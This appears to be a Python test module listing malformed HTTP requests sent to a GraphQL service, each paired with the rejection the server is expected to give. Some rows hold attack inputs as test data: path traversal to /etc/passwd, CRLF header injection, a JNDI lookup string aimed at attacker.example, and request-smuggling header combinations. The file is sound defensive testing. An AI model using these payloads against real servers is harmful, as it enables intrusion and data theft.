"""Requests that are wrong as HTTP: methods, addresses, headers, and what comes over a connection."""

from __future__ import annotations

import json

from tests.bad_input.rows import Row, Where
from tests.bad_input.wire import GRAPHQL_RESPONSE, HOST, JSON, NDJSON, REQUESTS, chunked, request

ASK = json.dumps({"query": "{ policy { html } }"}).encode()
MUTATION = 'mutation { recordDecision(input: {purpose: "marketing-messages", kind: CONSENT}) { __typename } }'
AS_JSON = [("Content-Type", JSON), ("Accept", GRAPHQL_RESPONSE)]
NO_HTTP = "This is not HTTP/1.1: send a request as its standard says"
ONE_HOST = "A request names its host once: send one Host header"


def method(name: str, target: str = "/graphql", allowed: str = "Send operations by POST") -> Row:
    return Row(f"{name} {target}", request(name, target, AS_JSON, ASK), 405, "METHOD_NOT_ALLOWED", allowed)


def target(name: str, address: str, status: int, code: str, message: str) -> Row:
    return Row(name, request("GET", address, [("Accept", GRAPHQL_RESPONSE)], length=None), status, code, message)


def raw(name: str, sent: bytes, status: int = 400, code: str = "INVALID_REQUEST", message: str = NO_HTTP) -> Row:
    return Row(name, sent, status, code, message)


def slow(name: str, sent: bytes, status: int, code: str, message: str) -> Row:
    return Row(name, sent, status, code, message, where=Where.IMPATIENT)


def head(*lines: str, body: bytes = ASK) -> bytes:
    """A POST of JSON with these header lines, as they are."""
    return (
        "\r\n".join(["POST /graphql HTTP/1.1", f"Host: {HOST}", f"Content-Type: {JSON}", *lines]).encode("latin-1")
        + b"\r\n\r\n"
        + body
    )


METHODS = (
    method("PUT"),
    method("DELETE"),
    method("PATCH"),
    method("OPTIONS"),
    method("TRACE"),
    method("PROPFIND"),
    Row("HEAD", request("HEAD", "/graphql?query=%7Bpolicy%7Bhtml%7D%7D", length=None), 405),
    raw("a method that there is not", request("ELEPHANT", "/graphql", AS_JSON, ASK)),
    raw("a method in small letters", request("post", "/graphql", AS_JSON, ASK)),
    method("GET", "/ingest/holdings", "Send reports by POST"),
    method("DELETE", "/readyz", "This address takes GET, HEAD"),
    raw("CONNECT", b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\n\r\n"),
    Row(
        "a WebSocket",
        request(
            "GET",
            "/graphql",
            [
                ("Upgrade", "websocket"),
                ("Sec-WebSocket-Version", "13"),
                ("Sec-WebSocket-Key", "AAAAAAAAAAAAAAAAAAAAAA=="),
            ],
            length=None,
        ).replace(b"Connection: close", b"Connection: close, Upgrade"),
        400,
        "INVALID_REQUEST",
        "There is no operation to run",
    ),
)

TARGETS = (
    target(
        "no such address",
        "/elephant",
        404,
        "NO_SUCH_ADDRESS",
        "There is nothing at this address: see the documentation",
    ),
    target("an address below", "/graphql/elephant", 404, "NO_SUCH_ADDRESS", "There is nothing at this address"),
    target("a slash at the end", "/ingest/holdings/", 404, "NO_SUCH_ADDRESS", "There is nothing at this address"),
    target("another folder", "/graphql/../../etc/passwd", 404, "NO_SUCH_ADDRESS", "There is nothing at this address"),
    target(
        "another folder, percent-encoded",
        "/%2e%2e/%2e%2e/etc/passwd",
        404,
        "NO_SUCH_ADDRESS",
        "There is nothing at this address",
    ),
    target("NUL, percent-encoded", "/graphql%00", 404, "NO_SUCH_ADDRESS", "There is nothing at this address"),
    target(
        "a line break, percent-encoded",
        "/%0d%0aSet-Cookie:%20a=b",
        404,
        "NO_SUCH_ADDRESS",
        "There is nothing at this address",
    ),
    target(
        "bytes that are no text, percent-encoded", "/%ff%fe", 404, "NO_SUCH_ADDRESS", "There is nothing at this address"
    ),
    target("a percent sign alone", "/%", 404, "NO_SUCH_ADDRESS", "There is nothing at this address"),
    target(
        "a template", "/${jndi:ldap://attacker.example/a}", 404, "NO_SUCH_ADDRESS", "There is nothing at this address"
    ),
    target(
        "the keys of development", "/.well-known/jwks.json", 404, "NO_SUCH_ADDRESS", "There is nothing at this address"
    ),
    target(
        "a mutation by GET",
        f"/graphql?query={MUTATION.replace(' ', '%20').replace(chr(34), '%22')}",
        405,
        "METHOD_NOT_ALLOWED",
        "GET runs no mutations: send this operation by POST",
    ),
    target("no query", "/graphql", 400, "INVALID_REQUEST", "There is no operation to run: send its text as `query`"),
    target("an empty query", "/graphql?query=", 400, "INVALID_REQUEST", "There is no operation to run"),
    target(
        "the query twice",
        "/graphql?query=%7Ba%7D&query=%7Bb%7D",
        400,
        "INVALID_REQUEST",
        "The address has `query` twice: send it once",
    ),
    target(
        "variables twice",
        "/graphql?query=%7Ba%7D&variables=%7B%7D&variables=%7B%7D",
        400,
        "INVALID_REQUEST",
        "`variables` twice",
    ),
    target(
        "variables that are not JSON",
        "/graphql?query=%7Ba%7D&variables=%7B",
        400,
        "NOT_JSON",
        "`variables` in the address is not JSON",
    ),
    target(
        "variables that are a list",
        "/graphql?query=%7Ba%7D&variables=%5B%5D",
        400,
        "INVALID_REQUEST",
        "`variables` is not an object",
    ),
    target(
        "variables nested too deep",
        "/graphql?query=%7Ba%7D&variables=" + "%5B" * 9_000,
        413,
        "BODY_TOO_LARGE",
        "`variables` in the address has 9001 values, and may have 1000",
    ),
    target(
        "extensions that are not JSON",
        "/graphql?query=%7Ba%7D&extensions=x",
        400,
        "NOT_JSON",
        "`extensions` in the address is not JSON",
    ),
    target(
        "bytes that are no text in the query",
        "/graphql?query=%ff%fe",
        400,
        "INVALID_REQUEST",
        "The address cannot be read",
    ),
    target(
        "400 parameters",
        "/graphql?" + "&".join(f"a{n}=1" for n in range(400)),
        400,
        "INVALID_REQUEST",
        "The address cannot be read",
    ),
    target(
        "a document that is wrong",
        "/graphql?query=%7B",
        400,
        "INVALID_DOCUMENT",
        "Syntax Error: Expected Name, found <EOF>.",
    ),
)

HEADS = (
    raw("not HTTP", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 40 + b"\r\n\r\n"),
    raw("the preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    raw("HTTP/0.9", b"GET /graphql\r\n\r\n"),
    raw("HTTP/3 by its name", b"GET /livez HTTP/3.0\r\nHost: a\r\n\r\n"),
    raw("another protocol", b"GET /livez FTP/1.1\r\nHost: a\r\n\r\n"),
    raw("no method", b"/livez HTTP/1.1\r\nHost: a\r\n\r\n"),
    raw("SMTP", b"EHLO vitrine.test\r\n\r\n"),
    raw("a header without a colon", head("Elephant", "Content-Length: 39")),
    raw("a space before the colon", head("Content-Length : 39")),
    raw("a header without a name", head(": x")),
    raw("a folded header", head("X-Long: a", " b", "Content-Length: 39")),
    raw("NUL in a header", head("X-Nul: a\0b")),
    raw("CR in a header", head("X-Cr: a\rb")),
    raw("a header that begins with a control character", head("\x01a: b")),
    raw("a negative length", head("Content-Length: -1")),
    raw("a length with a sign", head("Content-Length: +39")),
    raw("a length in hexadecimal", head("Content-Length: 0x27")),
    raw("a length in words", head("Content-Length: many")),
    raw("a length of 30 digits", head("Content-Length: " + "9" * 30)),
    raw("two lengths", head("Content-Length: 39", "Content-Length: 40")),
    raw("two lengths in one", head("Content-Length: 39, 40")),
    raw("a length, and chunked", head("Content-Length: 39", "Transfer-Encoding: chunked", body=chunked(ASK))),
    raw("chunked, and a length", head("Transfer-Encoding: chunked", "Content-Length: 39", body=chunked(ASK))),
    raw("chunked, but not at the end", head("Transfer-Encoding: chunked, identity", body=chunked(ASK))),
    raw("a transfer encoding that there is not", head("Transfer-Encoding: elephant", body=chunked(ASK))),
    raw("chunked with a control character", head("Transfer-Encoding: \x0bchunked", body=chunked(ASK))),
    raw("no host", request(headers=AS_JSON, body=ASK, host=None), message=ONE_HOST),
    raw("two hosts", head("Host: b", "Content-Length: 39"), message=ONE_HOST),
    raw("the same host twice in HTTP/1.0", b"GET /livez HTTP/1.0\r\nHost: a\r\nHost: a\r\n\r\n", message=ONE_HOST),
    raw(
        "headers of 70 KB",
        head(*(f"X-{n}: {'x' * 1000}" for n in range(70))),
        431,
        "HEADERS_TOO_LARGE",
        "65536 bytes: send fewer",
    ),
    raw("one header of 70 KB", head("X-Long: " + "x" * 70_000), 431, "HEADERS_TOO_LARGE", "65536 bytes: send fewer"),
    raw(
        "5,000 headers",
        head(*(f"X-{n}: {'x' * 10}" for n in range(5_000))),
        431,
        "HEADERS_TOO_LARGE",
        "65536 bytes: send fewer",
    ),
    raw(
        "an address of 70 KB",
        b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n",
        431,
        "HEADERS_TOO_LARGE",
        "65536 bytes",
    ),
)

HALVES = (
    slow(
        "half a line",
        b"POST /gra",
        408,
        "TOO_SLOW",
        "The head of the request did not come whole within 0.5 s: send it again",
    ),
    slow("nothing at all", b"", 408, "TOO_SLOW", "The head of the request did not come whole within 0.5 s"),
    slow(
        "half of the headers",
        b"POST /graphql HTTP/1.1\r\nHost: a\r\nContent-",
        408,
        "TOO_SLOW",
        "did not come whole within 0.5 s",
    ),
    slow(
        "half of the body",
        request(headers=AS_JSON, body=ASK, length=len(ASK) + 5),
        408,
        "TOO_SLOW",
        "did not come whole within",
    ),
    slow(
        "half a chunk",
        request(headers=[*AS_JSON, ("Transfer-Encoding", "chunked")], body=b"ff\r\n{", length=None),
        408,
        "TOO_SLOW",
        "did not come whole within",
    ),
    slow(
        "no last chunk",
        request(headers=[*AS_JSON, ("Transfer-Encoding", "chunked")], body=chunked(ASK)[:-5], length=None),
        408,
        "TOO_SLOW",
        "did not come whole within",
    ),
    slow(
        "half of the reports",
        request(
            "POST",
            "/ingest/holdings",
            [("Content-Type", NDJSON), ("Authorization", f"Bearer {REQUESTS}")],
            b'{"subject": "a',
            length=900,
        ),
        408,
        "TOO_SLOW",
        "Nothing came for 1 s: send the whole again, what was written before stays as it is",
    ),
    Row("half a line, and no more", b"POST /gra", 0, half_close=True),
    Row("half of the body, and no more", request(headers=AS_JSON, body=ASK, length=len(ASK) + 5), 0, half_close=True),
    Row(
        "half of the reports, and no more",
        request(
            "POST",
            "/ingest/holdings",
            [("Content-Type", NDJSON), ("Authorization", f"Bearer {REQUESTS}")],
            b'{"subject": "a',
            length=900,
        ),
        0,
        half_close=True,
    ),
    raw(
        "a chunk with a size that is none",
        request(headers=[*AS_JSON, ("Transfer-Encoding", "chunked")], body=b"zz\r\n{}\r\n0\r\n\r\n", length=None),
    ),
    raw(
        "a chunk with a negative size",
        request(headers=[*AS_JSON, ("Transfer-Encoding", "chunked")], body=b"-1\r\n{}\r\n0\r\n\r\n", length=None),
    ),
    raw(
        "a chunk of 2^70 bytes",
        request(headers=[*AS_JSON, ("Transfer-Encoding", "chunked")], body=b"4" + b"0" * 17 + b"\r\n{}", length=None),
    ),
    raw(
        "a chunk that is longer than it says",
        request(headers=[*AS_JSON, ("Transfer-Encoding", "chunked")], body=b"1\r\n{}\r\n0\r\n\r\n", length=None),
    ),
)
